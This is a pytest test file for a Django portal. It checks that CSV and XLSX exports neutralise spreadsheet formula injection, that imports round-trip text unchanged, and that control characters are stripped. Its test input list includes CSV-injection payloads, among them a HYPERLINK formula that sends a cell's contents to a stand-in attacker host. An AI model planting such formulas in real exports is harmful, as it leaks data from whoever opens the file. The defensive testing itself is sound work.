"""Exports do not attack the people who open them: text a spreadsheet could run as a formula is
written with an apostrophe in front and as a text cell, numbers and dates stay real cells, stored
control characters never break an export, and the importers read the exported text back unchanged.
Text input (forms, API, imports) loses C0 control characters other than tab and newline."""
import csv
import datetime
import io
from decimal import Decimal

import pytest
from django import forms
from django.core.management import call_command
from django.urls import reverse
from openpyxl import load_workbook
from rest_framework import serializers

from demands.models import Demand
from portal import dataexchange
from portal.export import xlsx_bytes
from tests.factories.demands import make_demand

pytestmark = pytest.mark.django_db

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+2", "-2+3", "@SUM(A1)", "\tTAB", "\rCR",
           "'=already quoted", "- 一条以减号开头的诉求"]


def test_xlsx_cells_are_text_or_real_values():
    day, when = datetime.date(2026, 3, 1), datetime.datetime(2026, 3, 1, 9, 30)
    data = xlsx_bytes(["a", "b", "c", "d", "e"], [["=1+1", -5, Decimal("2.50"), day, when], ["@x", 3.5, None, "ok", True]])
    sheet = load_workbook(io.BytesIO(data)).active
    formula, number, decimal, date, moment = sheet[2]
    assert (formula.value, formula.data_type) == ("'=1+1", "s")
    assert (number.value, number.data_type) == (-5, "n")
    assert decimal.data_type == "n" and float(decimal.value) == 2.5
    assert date.is_date and moment.is_date
    assert sheet["A3"].value == "'@x" and sheet["B3"].value == 3.5 and sheet["D3"].value == "ok"
    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)


def test_demand_ledger_exports_neutralise_formulas(client, tree, owner):
    for title in HOSTILE:
        make_demand(tree.group_a, by=owner, title=title)
    client.force_login(owner)
    response = client.get(reverse("demands:demand_list"), {"export": "xlsx"})
    sheet = load_workbook(io.BytesIO(response.content)).active
    header = [c.value for c in sheet[1]]
    titles = [row[header.index("标题") if "标题" in header else header.index("title")] for row in sheet.iter_rows(min_row=2)]
    assert all(cell.data_type == "s" for cell in titles)
    values = {cell.value for cell in titles}
    assert "'" + HOSTILE[0] in values and "'-2+3" in values and "'@SUM(A1)" in values and "''=already quoted" in values
    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)

    response = client.get(reverse("demands:demand_list"), {"export": "csv"})
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    cells = {value for row in csv.reader(io.StringIO(body)) for value in row}
    assert "'" + HOSTILE[0] in cells and "'+1+2" in cells
    assert not any(value[:1] in "=+-@" for value in cells if value and not value[0].isdigit())


@pytest.mark.parametrize("suffix", ["csv", "xlsx"])
def test_exported_hostile_text_reimports_unchanged(tmp_path, tree, owner, suffix):
    for title in HOSTILE:
        make_demand(tree.group_a, by=owner, title=title.strip("\t\r") if title[0] in "\t\r" else title)
    before = dict(Demand.objects.values_list("ref", "title"))
    path = tmp_path / f"demands.{suffix}"
    call_command("export_data", "demands", str(path))
    result = dataexchange.run_import("demands", path.read_bytes(), path.name)
    assert result.ok, result.errors
    assert result.unchanged == len(before) and result.updated == 0
    assert dict(Demand.objects.values_list("ref", "title")) == before


def test_stored_control_characters_do_not_break_exports(client, tree, owner):
    demand = make_demand(tree.group_a, by=owner, title="正常标题")
    Demand.objects.filter(pk=demand.pk).update(title="带\x0b控制\x01字符", content="\x02x\x1f")
    client.force_login(owner)
    response = client.get(reverse("demands:demand_list"), {"export": "xlsx"})
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert "带控制字符" in {c.value for row in sheet.iter_rows(min_row=2) for c in row}
    response = client.get(reverse("demands:demand_list"), {"export": "csv"})
    assert "带控制字符" in b"".join(response.streaming_content).decode("utf-8-sig")


def test_forms_and_api_drop_control_characters():
    assert forms.CharField().clean("a\x00b\x0bc\r\nd\te") == "abc\r\nd\te"
    assert serializers.CharField().run_validation("a\x01b\x1fc") == "abc"


def test_imports_drop_control_characters(tree, owner):
    make_demand(tree.group_a, by=owner, title="原标题")
    header, rows = dataexchange.export_table("demands")
    rows = [list(r) for r in rows]
    rows[0][header.index("title")] = "新\x01标题\x0b"
    buffer = io.StringIO()
    csv.writer(buffer).writerows([header, *rows])
    result = dataexchange.run_import("demands", buffer.getvalue().encode(), "d.csv")
    assert result.ok, result.errors
    assert Demand.objects.get().title == "新标题"
